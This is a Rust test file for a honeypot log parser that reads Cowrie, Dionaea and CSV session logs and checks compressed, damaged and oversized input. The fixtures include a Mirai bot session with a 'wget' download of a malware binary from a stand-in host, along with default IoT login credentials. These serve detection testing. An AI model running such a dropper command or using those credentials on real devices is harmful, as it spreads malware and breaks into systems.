//! Crafted logs of other honeypots: every format, plain and compressed, complete and damaged.

use std::io::{self, Read, Write as _};

use flate2::{Compression, write::GzEncoder};
use honeyxdp_signatures::{
    Signatures,
    logs::{LogCounts, LogReader, Login, MAX_TEXT, Observation},
};

const COWRIE: &[u8] = include_bytes!("logs/cowrie.json");
const DIONAEA: &[u8] = include_bytes!("logs/dionaea.json");
const TABLE: &[u8] = include_bytes!("logs/sessions.csv");

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

fn read(logs: &[&[u8]]) -> (Vec<Observation>, LogCounts) {
    let mut reader = LogReader::new();
    let mut observations = Vec::new();
    for &log in logs {
        observations.extend(reader.read(log).unwrap().map(Result::unwrap));
    }
    observations.extend(reader.finish());
    (observations, reader.counts().clone())
}

fn login(user: &str, password: &str, accepted: Option<bool>) -> Option<Login> {
    Some(Login { user: user.to_owned(), password: password.to_owned(), accepted })
}

#[test]
fn reads_cowrie_sessions_with_logins_and_commands() {
    let (observations, counts) = read(&[COWRIE]);
    let logins: Vec<_> = observations.iter().filter(|one| one.login.is_some()).collect();
    assert_eq!(logins[0].login, login("root", "xc3511", Some(false)));
    assert_eq!(logins[1].login, login("root", "vizxv", Some(true)));
    assert_eq!((logins[1].src_port, logins[1].dst_port, logins[1].text.len()), (Some(40_001), Some(2323), 0));
    assert_eq!(logins[1].time_ms, 1_572_955_203_500);

    let connections: Vec<_> = observations.iter().filter(|one| one.login.is_none()).collect();
    let [bot, rotated, open] = connections[..] else { panic!("{connections:?}") };
    assert_eq!((bot.src, bot.time_ms), ("198.18.0.7".parse().unwrap(), 1_572_955_200_250));
    assert_eq!(bot.protocol.as_deref(), Some("telnet"));
    let text = String::from_utf8_lossy(&bot.text);
    assert_eq!(text, "enable\n/bin/busybox MIRAI\nwget http://192.0.2.1/mirai.arm7\nhttp://192.0.2.1/mirai.arm7");
    // This session began in an earlier log, so its ports are unknown.
    assert_eq!((rotated.src, rotated.src_port, rotated.dst_port), ("2001:db8::7".parse().unwrap(), None, None));
    assert_eq!(rotated.text, b"uname -a");
    assert_eq!((open.src_port, open.text.as_slice()), (Some(40_002), &b""[..]));

    assert_eq!((counts.connections, counts.logins, counts.others, counts.broken), (3, 2, 2, 3));
    let (line, why) = counts.first_broken.unwrap();
    assert!(line == 6 && why.contains("EOF"), "{line}: {why}");
    assert_eq!(counts.lines, 15);
}

#[test]
fn classifies_imported_text() {
    let signatures = Signatures::built_in().unwrap();
    let (observations, _) = read(&[COWRIE]);
    let bot = observations.iter().find(|one| one.login.is_none()).unwrap();
    let classification = signatures.classify(&bot.text);
    assert_eq!(classification.family.unwrap().signature.id, "mirai-busybox/1");
    assert_eq!(classification.dropper.unwrap().file, "mirai.arm7");
}

#[test]
fn reads_inbound_tcp_connections_of_dionaea() {
    let (observations, counts) = read(&[DIONAEA]);
    let [smb, mssql_login, mssql, ftp_login, ftp, closed] = &observations[..] else { panic!("{observations:?}") };
    assert_eq!((smb.src, smb.src_port, smb.dst_port), ("198.18.1.1".parse().unwrap(), Some(1401), Some(445)));
    assert_eq!((smb.time_ms, smb.protocol.as_deref()), (1_572_955_200_250, Some("smbd")));
    assert_eq!((&mssql_login.login, &mssql.login), (&login("sa", "", None), &None));
    assert_eq!(ftp_login.login, login("anonymous", "anonymous@", None));
    assert_eq!(String::from_utf8_lossy(&ftp.text), "USER anonymous\nPASS anonymous@\nPWD");
    assert_eq!(closed.src.to_string(), "198.18.1.4", "IPv4 in IPv6");
    assert_eq!((counts.connections, counts.logins, counts.others, counts.broken, counts.lines), (4, 2, 3, 4, 11));
}

#[test]
fn reads_table_of_sessions() {
    let (observations, counts) = read(&[TABLE]);
    let [first, second] = &observations[..] else { panic!("{observations:?}") };
    assert_eq!((first.src, first.time_ms), ("198.18.2.1".parse().unwrap(), 1_572_955_200_286));
    assert_eq!((first.src_port, first.dst_port, first.protocol.as_deref()), (Some(28_080), Some(22), Some("ssh")));
    assert_eq!((second.src_port, second.protocol.as_deref()), (None, Some("tel,net")));
    assert_eq!((counts.connections, counts.broken, counts.lines), (2, 5, 8));
    assert_eq!(counts.first_broken, Some((4, "\"x\" is not an address".to_owned())));
}

#[test]
fn compressed_and_mixed_logs_read_the_same() {
    let plain = read(&[COWRIE, DIONAEA, TABLE]);
    assert_eq!(read(&[&gzip(COWRIE), DIONAEA, &gzip(TABLE)]), plain);
    let marked = ["\u{feff}".as_bytes(), COWRIE].concat();
    assert_eq!(read(&[&marked]), read(&[COWRIE]));
    let dos: Vec<u8> = String::from_utf8_lossy(TABLE).replace('\n', "\r\n").into_bytes();
    assert_eq!(read(&[&dos]), read(&[TABLE]));
    // Two gzip members in one file.
    assert_eq!(read(&[&[gzip(DIONAEA), gzip(DIONAEA)].concat()]).1.connections, 8);
    assert_eq!(read(&[b"", b"\n\n"]), (Vec::new(), LogCounts::default()));
}

#[test]
fn session_may_span_two_logs() {
    let lines: Vec<&[u8]> = COWRIE.split_inclusive(|&byte| byte == b'\n').collect();
    let (first, second) = (lines[..5].concat(), lines[5..].concat());
    assert_eq!(read(&[&first, &second]).0, read(&[COWRIE]).0);
}

#[test]
fn rejects_other_files_and_reports_damage_after_the_readable_part() {
    let mut reader = LogReader::new();
    let error = reader.read(&b"\x7fELF\n"[..]).unwrap().next().unwrap().unwrap_err();
    assert!(error.to_string().contains("not a log of Cowrie or Dionaea"), "{error}");
    let mut packed = gzip(&TABLE.repeat(50));
    packed.truncate(packed.len() - 10);
    let mut reader = LogReader::new();
    let read: Vec<io::Result<Observation>> = reader.read(&packed[..]).unwrap().collect();
    assert!(read.len() > 50 && read[..read.len() - 1].iter().all(Result::is_ok) && read.last().unwrap().is_err());
}

#[test]
fn bounds_long_input() {
    let long = "x".repeat(2 << 20);
    let line = format!("{{\"eventid\":\"cowrie.command.input\",\"input\":\"{long}\"}}\n");
    let connect = "{\"eventid\":\"cowrie.session.connect\",\"session\":\"a\",\"src_ip\":\"198.18.0.1\",\"timestamp\":\"2019-11-05T12:00:00Z\"}\n";
    let command = connect
        .replace("session.connect", "command.input")
        .replace("{", &format!("{{\"input\":\"{}\",", "ä".repeat(600)));
    let text = [connect, &line, &command, &command].concat();
    let (observations, counts) = read(&[text.as_bytes()]);
    assert_eq!((observations.len(), observations[0].text.len()), (1, MAX_TEXT));
    assert_eq!((counts.broken, counts.first_broken), (1, Some((2, "the line is longer than 1 MiB".to_owned()))));
}

/// Connect events of sessions that are never closed.
struct Endless {
    line: Vec<u8>,
    left: u32,
}

impl Read for Endless {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        if self.line.is_empty() && self.left > 0 {
            self.left -= 1;
            let left = self.left;
            self.line = format!(
                "{{\"eventid\":\"cowrie.session.connect\",\"session\":\"{left}\",\"src_ip\":\"198.18.0.1\",\"timestamp\":\"2019-11-05T12:00:00Z\"}}\n"
            )
            .into_bytes();
        }
        let length = self.line.len().min(buffer.len());
        buffer[..length].copy_from_slice(&self.line[..length]);
        self.line.drain(..length);
        Ok(length)
    }
}

#[test]
fn bounds_memory_of_open_sessions() {
    let mut reader = LogReader::new();
    let over = reader.read(Endless { line: Vec::new(), left: 100_500 }).unwrap().count();
    assert_eq!((over, reader.finish().count()), (500, 100_000));
    assert_eq!(reader.counts().connections, 100_500);
}
